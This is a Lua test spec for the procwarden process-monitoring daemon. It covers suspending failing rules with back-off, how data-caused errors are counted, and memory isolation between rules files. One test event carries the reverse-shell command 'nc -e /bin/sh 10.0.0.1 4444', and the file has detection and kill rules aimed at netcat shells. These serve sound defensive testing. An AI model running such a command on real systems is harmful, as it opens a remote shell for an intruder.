-- runtime_suspend_spec.lua: no input can switch a rule off, through the
-- real engine. A rule whose own code keeps failing is suspended for a
-- while (1 s, then 2 s ... up to 5 min), resumes by itself, and both are
-- error-level lines on the outputs; what event data causes (refused
-- patterns, memory) does not count toward suspension; and one rules file's
-- memory cannot starve another's kill rule.
package.path = "lua/?.lua;lua/?/init.lua;spec/?.lua;" .. package.path
package.cpath = (os.getenv("PW_BUILD") or "build") .. "/lua/?.so;" .. package.cpath
local D = require "helpers.daemon"

local function exec(pid, exe, extra)
  local e = { type = "exec", pid = pid, exe = exe or "/usr/bin/true" }
  for k, v in pairs(extra or {}) do e[k] = v end
  return e
end

-- Output lines of the suspension machinery for rule `name`.
local function suspension_lines(lines, name)
  local out = {}
  for _, l in ipairs(lines) do
    if l.rule == name and l.kind == "alert" and (l.msg:find(" suspended for ", 1, true)
        or l.msg:find(" resumed after ", 1, true)) then
      out[#out + 1] = l
    end
  end
  return out
end

local function msgs_of(res, rule, kind)
  local out = {}
  for _, l in ipairs(D.select(res, { rule = rule, kind = kind })) do out[#out + 1] = l.msg end
  return out
end

describe("a rule whose own code keeps failing", function()
  teardown(D.cleanup)

  it("is suspended for 1 s with an error-level alert, resumes by itself, and backs off", function()
    local path = D.policy([[
rule { name = "witness", on = "exec", action = alert "seen {pid}" }
rule { name = "flaky", on = "exec",
  when = function(e)
    if e.exe == "/bad" then local t = nil; return t.x end -- a plain bug: indexing nil
    return true
  end,
  action = alert "flaky {pid}" }
]], "flaky.lua")
    local d = D.spawn { rules = { path }, stats = true }
    for pid = 1, 5 do d:send(exec(pid, "/bad")) end
    assert.truthy(d:wait_out("suspended for 1 s"), "no suspension line")
    d:send(exec(6))
    assert.truthy(d:wait_out('"seen 6"'))
    -- the loop runs its timers when the replay reads a batch of lines
    local resumed = d:wait(function()
      D.sleep(0.3)
      d:nudge()
      return #D.grep(d:stdout(), "resumed after 1 s suspended") > 0
    end, 20)
    assert.truthy(resumed, "not resumed by itself")
    d:send(exec(7))
    assert.truthy(d:wait_out('"flaky 7"'), "the resumed rule does not fire")
    for pid = 8, 12 do d:send(exec(pid, "/bad")) end
    assert.truthy(d:wait_out("suspended for 2 s"), "no longer back-off at the second suspension")
    local res = d:close()
    assert.equal(0, res.rc)

    local lines = suspension_lines(res.lines, "flaky")
    assert.equal(3, #lines)
    for _, l in ipairs(lines) do
      assert.equal("error", l.priority)
    end
    assert.matches("^flaky %(exec%) suspended for 1 s after 5 failures in a row, the last: "
      .. ".*flaky%.lua:4: attempt to index a nil value", lines[1].msg)
    assert.equal("flaky (exec) resumed after 1 s suspended", lines[2].msg)
    assert.matches("^flaky %(exec%) suspended for 2 s after 5 failures in a row", lines[3].msg)
    -- pid 6 came while flaky was suspended: only 7 fired it
    local fired = {}
    for _, m in ipairs(msgs_of(res, "flaky", "alert")) do
      if m:match("^flaky %d+$") then fired[#fired + 1] = m end
    end
    assert.same({ "flaky 7" }, fired)
    local counters = D.stats(res.err)
    assert.equal(2, counters.handlers_suspended)
    assert.equal(10, counters.handler_errors)
  end)

  it("counts the time budget as the rule's own failure", function()
    local res = D.replay { rules = { D.policy([[
rule { name = "spin", on = "exec", when = function() while true do end end }
]]) }, events = { exec(1), exec(2), exec(3), exec(4), exec(5), exec(6) }, stats = true }
    assert.equal(0, res.rc)
    local counters, rules = D.stats(res.err)
    assert.equal(5, counters.budget_exceeded)
    assert.equal(1, counters.handlers_suspended)
    assert.matches("^spin %(exec%) suspended for 1 s after 5 failures in a row, the last: .*budget exceeded",
      suspension_lines(res.lines, "spin")[1].msg)
    assert.matches("failures 5 %(suspended%)$", rules.spin)
  end)
end)

describe("errors caused by event data", function()
  teardown(D.cleanup)

  it("memory errors do not count toward suspension", function()
    local events = {}
    for pid = 1, 12 do events[pid] = exec(pid, pid <= 10 and "/bomb" or "/usr/bin/true") end
    local res = D.replay { rules = { D.policy([[
rule { name = "big", on = "exec",
  when = function(e)
    if e.exe == "/bomb" then local s = "x" for _ = 1, 40 do s = s .. s end return #s > 0 end
    return true
  end,
  action = alert "big {pid}" }
]]) }, events = events, stats = true }
    assert.equal(0, res.rc)
    local counters, rules = D.stats(res.err)
    assert.equal(10, counters.handler_errors)
    assert.equal(0, counters.handlers_suspended)
    assert.same({}, suspension_lines(res.lines, "big"))
    assert.same({ "big 11", "big 12" }, msgs_of(res, "big", "alert"))
    assert.matches("fired 2, failures 10, data errors 10$", rules.big)
  end)

  it("a field the event lacks (a process gone before its argv was read) does not count", function()
    local events = {}
    for pid = 1, 10 do events[pid] = exec(pid, "/usr/bin/victim") end -- no argv: gone too soon
    events[11] = exec(11, "/usr/bin/victim", { argv = { "victim", "3000" } })
    local res = D.replay { rules = { D.policy([[
rule { name = "argv2", on = "exec", when = function(e) return e.argv[2] == "3000" end, action = kill() }
]]) }, events = events, stats = true }
    assert.equal(0, res.rc)
    local counters, rules = D.stats(res.err)
    assert.equal(10, counters.handler_errors)
    assert.equal(0, counters.handlers_suspended)
    assert.matches("fired 1, failures 10, data errors 10$", rules.argv2)
  end)

  it("a result the sandbox refuses as over its cap does not count", function()
    local events = {}
    for pid = 1, 7 do events[pid] = exec(pid, "/bomb") end
    events[8] = exec(8)
    local res = D.replay { rules = { D.policy([[
rule { name = "rep", on = "exec",
  when = function(e) if e.exe == "/bomb" then return #("x"):rep(1 << 40) > 0 end return true end,
  action = alert "rep {pid}" }
]]) }, events = events, stats = true }
    assert.equal(0, res.rc)
    local counters, rules = D.stats(res.err)
    assert.equal(7, counters.handler_errors)
    assert.equal(0, counters.handlers_suspended)
    assert.same({ "rep 8" }, msgs_of(res, "rep", "alert"))
    assert.matches("fired 1, failures 7, data errors 7, refused 7$", rules.rep)
  end)

  it("five long command lines, then the matching one still fires the rule", function()
    local pad = ("x"):rep(300)
    local events = {}
    for pid = 1, 5 do events[pid] = exec(pid, "/usr/bin/cat", { cmdline = "cat " .. pad }) end
    events[6] = exec(6, "/usr/bin/nc", { cmdline = "nc -e /bin/sh 10.0.0.1 4444" })
    local res = D.replay { rules = { D.policy([[
rule { name = "nc-shell", on = "exec", when = function(e) return e.cmdline:find("nc.*%-e.*sh") end,
       action = alert "reverse shell {pid}" }
]]) }, events = events, stats = true }
    assert.equal(0, res.rc)
    assert.same({ "reverse shell 6" }, msgs_of(res, "nc-shell", "alert"))
    local counters, rules = D.stats(res.err)
    assert.equal(0, counters.handlers_suspended)
    assert.equal(0, counters.handler_errors)
    -- each refusal counted for the rule, and said once
    assert.matches("fired 1, failures 0, refused 5$", rules["nc-shell"])
    local warnings = msgs_of(res, "procwarden", "log")
    assert.equal(1, #warnings)
    assert.matches("^nc%-shell: pattern refused %(string%.find: pattern 'nc%.%*%%%-e%.%*sh' too costly", warnings[1])
  end)
end)

describe("one rules file's memory", function()
  teardown(D.cleanup)

  it("cannot starve a kill rule in another file: it fires on every event and is never suspended", function()
    -- Fills all the memory it is given, to the last small table, at each event.
    local hungry = D.policy([[
local cache, small, kib = {}, {}, ("x"):rep(1024)
on("exec", function()
  for _ = 1, 200 do
    if not pcall(function() cache[#cache + 1] = kib:rep(1024) end) then break end
  end
  for i = 1, 100000 do
    if not pcall(function() small[#small + 1] = { i } end) then break end
  end
end)
]], "hungry.lua")
    local kill = D.policy([[
rule { name = "kill-nc", on = "exec", match = { exe = "*/nc" }, action = { kill(), alert "nc {pid}" } }
]], "kill.lua")
    local events, want = {}, {}
    for pid = 1, 20 do
      events[pid] = exec(pid, "/usr/bin/nc")
      want[pid] = "nc " .. pid .. " [would kill]" -- a replay: actions are dry runs
    end
    local res = D.replay { rules = { hungry, kill }, events = events, stats = true }
    assert.equal(0, res.rc)
    assert.same(want, msgs_of(res, "kill-nc", "alert"))
    local counters, rules = D.stats(res.err)
    assert.equal(0, counters.handlers_suspended)
    assert.matches("fired 20, failures 0$", rules["kill-nc"])
    assert.is_true(counters.lua_alloc_refused > 0, "the hungry file was never refused")
    -- the refusals were the hungry file's, and it stayed within its share
    local file = rules["file:" .. hungry]
    local used, share, refused = file:match("memory (%d+) of (%d+), allocations refused (%d+)")
    assert.is_true(tonumber(used) <= tonumber(share), file)
    assert.is_true(tonumber(refused) > 0, file)
    assert.matches("allocations refused 0,", rules["file:" .. kill])
  end)
end)
